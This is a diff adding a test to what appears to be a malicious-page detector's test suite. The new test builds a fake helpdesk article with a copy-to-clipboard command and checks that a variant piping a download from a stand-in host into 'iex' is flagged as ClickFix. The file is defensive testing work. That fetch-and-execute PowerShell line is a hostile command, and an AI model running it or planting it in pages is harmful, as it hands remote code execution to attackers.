@@ -1379,6 +1379,13 @@ describe('analysis: signal rules', () => {
       clean(judge('https://www.notes-app.example/android', '<title>Download | Notes App</title><h1>Notes App for Android</h1><p>To install the APK, allow installs from unknown sources in your settings.</p><a href="/files/notes-app-3.2.apk">Download APK</a>'));
     });
 
+    it('a help-desk article with Run-box steps and a copy button for a command that reaches nothing beyond the machine (clearing the Teams cache) is clean; the same steps with a command that downloads and runs a script are ClickFix', () => {
+      const page = (command: string): string => `<title>KB0142: Microsoft Teams – clear the cache | IT Helpdesk</title><h1>Teams shows no chats – clear the cache</h1><p>Close Teams. Press Win + R, paste the command below and press Enter:</p><pre id="cmd">${command}</pre><button id="cp">Copy command</button><script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('cmd').textContent)}</script>`;
+      clean(judge('https://helpdesk.intranet.northwind-logistics.example/kb/teams-cache', page('powershell -NoProfile -Command "Remove-Item -Recurse -Force $env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\*"')));
+      const fix = judge('https://helpdesk.intranet.northwind-logistics.example/kb/teams-cache', page('powershell -NoProfile -Command "iwr https://teams-fix.example/cache.ps1 | iex"'));
+      assert.ok(fix.verdict === 'malicious' && fix.categories.includes('clickfix'), `${fix.verdict} by ${fix.decidedBy?.join(',')}`);
+    });
+
     it('a subscription trap: a trial bottle paid only by its postage whose fine print charges the card every 30 days (English, German) is a scam; a streaming trial that states its monthly price and a shop selling a subscription are clean', () => {
       const card = '<form><input name="name" autocomplete="cc-name"><input name="card" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"><button>Rush my order</button></form>';
       decides('subscription-trap', 'https://try.slimglow-offer.example/trial', `<h1>Claim your free trial bottle</h1><p>Just pay $5.95 shipping today.</p>${card}<p>If you do not cancel within 10 days you will be charged $94.50 and every 30 days thereafter.</p>`);
